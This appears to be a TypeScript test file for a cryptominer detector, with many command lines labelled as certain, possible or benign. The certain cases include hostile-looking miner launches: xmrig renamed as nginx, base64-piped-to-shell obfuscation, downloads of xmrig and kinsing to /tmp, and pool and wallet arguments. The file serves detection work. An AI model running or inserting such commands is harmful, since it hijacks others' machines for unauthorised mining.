import { strict as assert } from 'node:assert';
import { isMiner, minerIn } from '../../../shared/detection/miner.ts';

const DERO = `dero1q${'y'.repeat(59)}`;
const WALLET = `4${'A'.repeat(94)}`;
const MINES = [
  'sh -c ln -s /opt/xmrig-6.21 /tmp/nginx; /tmp/nginx',
  './xmrig',
  '/usr/local/bin/xmrig-6.21.0 -c config.json',
  'sh -c cd /tmp && nohup ./minerd -a scrypt &',
  './kworker --donate-level 1',
  './kworker --cpu-max-threads-hint=70',
  './kworker --randomx-1gb-pages',
  './a -a rx/0 -o host.example.com:443',
  './a --algo=kawpow',
  './a -o pool.example.com:80 -u x',
  './a stratum+tcp://host.example.com:80',
  './a stratum2+ssl://host.example.com:80',
  './a -o gulf.moneroocean.stream:10128',
  `./a -o 203.0.113.9:443 -u ${WALLET}`,
  `./a -o 203.0.113.9:443 -u ${WALLET}${'B'.repeat(11)}`,
  `./a -r 203.0.113.9:10300 -w ${DERO}`,
  './cpuminer-avx2 -c config.json',
  './xmrig-notls -c config.json',
  './a --coin monero -o 203.0.113.9:443 --tls',
  './a -o daemon+http://203.0.113.9:18081 -u x',
  './a --algorithm ghostrider --pool 203.0.113.9:443',
  './a -o xmr.kryptex.network:7777 -u x',
  `echo ${Buffer.from('./a -o stratum+tcp://h.example.com:1').toString('base64')} | base64 -d | sh`,
  'wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz',
  'curl -sL https://example.com/kinsing -o /tmp/k',
  'sh -c id; c"u"rl -sL https://example.com/kins\'in\'g -o /tmp/k',
  'sh -c ls|./a -o stratum+tcp://pool.example.com:3333',
  '/tmp/ps -o stratum+tcp://pool.example.com:3333 -u x',
  'ps -o stratum+tcp://pool.example.com:3333 -u x',
  '/opt/host --donate-level=1 --cpu-max-threads-hint=70',
  'file --donate-level 1',
  'sh -c which a || ls -a rx/0',
  '/w --url pool.supportxmr.com --port 3333',
  './w -o gulf.moneroocean.stream -p 10128',
  '/w --pool=pool.supportxmr.com --port=3333',
  'find /tmp -name a -exec ./a -o stratum+tcp://pool.example.com:3333 ;',
  "sed -i 's#POOL#stratum+tcp://pool.example.com:3333#' config.json",
  'sh -c echo a | xargs ./a --donate-level',
  './a -o 203.0.113.9:443 --rig-id=cart-0',
  './a --algo cn-heavy/xhv -o 203.0.113.9:443',
  './a --algo=argon2/chukwa -o 203.0.113.9:443',
  `sh -c echo '{"donate-level": 1, "pools": [{"url": "203.0.113.9:443"}]}' > c.json; ./a -c c.json`,
  `sh -c echo '{"pools": [{"algo": "rx/0", "url": "203.0.113.9:443"}]}' > c.json; ./a -c c.json`,
  `sh -c echo '{"pools": [{"url": "203.0.113.9:443", "user": "${WALLET}"}]}' > c.json; ./a -c c.json`,
  'python3 -c import os;os.system("./xmrig")',
  `python3 -c 'import subprocess;subprocess.run(["/tmp/xmrig", "-c", "c.json"])'`,
  `sh -c ./\${NAME:-xmrig} -c c.json`,
  'sh -c ./$(echo xmrig) -c c.json',
  './xmrig.bin -c c.json',
  './pwnrig',
  './rqiner-x86-cuda -t 4 -i AAAA',
  './kworker -o 203.0.113.9:443 --cpu-priority 5',
  'curl -s http://us-east.equihash-hub.miningpoolhub.com:12026',
];
const MAY = [
  'sh -c echo stratum+tcp',
  'sh -c for word in stratum+ssl donate; do cat $word; done',
  './a stratum+tcp:',
  'sh -c mv xmrig nginx && ./nginx -c c.json',
  'sh -c chmod +x /tmp/xmrig',
  './a -o 203.0.113.9:443 -u x -k --tls',
  './a -o xmr.example.com:443 -u x --keepalive',
];
const DOES_NOT = [
  'ls',
  'ps aux | grep xmrig',
  'pgrep -f xmrig|minerd',
  'kill -9 $(pgrep xmrig)',
  'rm -rf /tmp/xmrig',
  'find / -name xmrig',
  "grep -r 'stratum+tcp' /var/log",
  'curl https://nanopool.org',
  'xmrig-exporter --port 9100',
  'python train.py --algorithm random-forest --coin flip',
  'cat /tmp/xmrig-notls',
  'nslookup pool.supportxmr.com:3333',
  'java -jar app.jar --algo=rsa --cpu-limit 2',
  'python train.py -a randomforest',
  'curl -o pool.json https://example.com/pools',
  `echo ${WALLET}`,
  `echo ${DERO}`,
  'curl notnanopool.org:443',
  "sh -c ps aux|grep -c 'stratum+tcp://pool.example.com:3333'",
  'grep -o stratum+tcp://pool.example.com:3333 /app/config.json',
  'grep -rE stratum+tcp://|--donate-level /app',
  'pkill -f donate-level|stratum+tcp://',
  'which nc',
  'strings /tmp/a',
  'find / -type f -exec grep -l stratum+tcp {} ;',
  'find / -type f -exec grep -l stratum+tcp://pool.example.com {} ;',
  'sh -c find / -type f | xargs grep -l stratum+tcp',
  'sh -c for f in /proc/[0-9]*/cmdline; do grep -l stratum+tcp $f; done',
  'sed -n /stratum+tcp/p /app/config',
  'sh -c awk /stratum\\+tcp/ /app/config',
  'command -v xmrig',
  "sh -c if grep -q 'stratum+tcp://' /app/config; then echo found; fi",
  'sh -c tr "\\0" " " </proc/7/cmdline | grep -c stratum+tcp',
  'test -x /tmp/xmrig',
  'sudo -u nobody ls /tmp/xmrig',
  `sh -c ps aux | grep stratum+tcp://pool.example.com | awk '{print "kill " $2}' | sh`,
  'sh -c grep -rh stratum+tcp:// /app | python3 parse.py',
  'timeout 5 pgrep xmrig',
  'nsenter -t 1 -m -- sh -c "ps aux | grep xmrig"',
  'su -c "ps aux | grep xmrig"',
  'dig pool.supportxmr.com -p 5353',
  'curl --url pool.supportxmr.com',
  'psql --host db.example.com --port 5432',
  'curl -k -u ana:secret -o out.json https://example.com:8443/x',
  'wget -O a.example.com:80 https://example.com/x',
  'mongodump --url db.example.com:27017 --user x --tls',
  `python3 -c 'import os;os.system("pkill xmrig")'`,
  `sh -c echo '{"coin": "monero", "price": 160}' | post`,
  'sh -c cp xmrigger /tmp',
  'sh -c cd /rules; wget -q https://rules.example.com/malware/xmrig.yar',
  'python train.py -a octopus',
  './encode --cpu-priority low',
];

describe('a miner in a command line', () => {
  for (const line of MINES) it(`is certain: ${line.slice(0, 70)}`, () => assert.equal(minerIn(line)?.certain, true));
  for (const line of MAY) it(`is possible: ${line}`, () => assert.equal(minerIn(line)?.certain, false));
  for (const line of DOES_NOT) it(`is not found: ${line.slice(0, 70)}`, () => assert.equal(minerIn(line), undefined));
});

describe('the name of a mining program', () => {
  it('may have a version or a file extension', () => {
    for (const name of [
      'xmrig',
      'XMRig',
      'xmrig-6.21.0',
      'xmrig_v6',
      'xmr-stak',
      't-rex',
      'xmrig.exe',
      'cpuminer-opt',
    ]) {
      assert.equal(isMiner(name), true, name);
    }
  });

  it('does not match another program', () => {
    for (const name of ['xmrigger', 'trex', 'cpuminer-exporter', 'miner', 'minder', '6.21', ''])
      assert.equal(isMiner(name), false, name);
  });
});
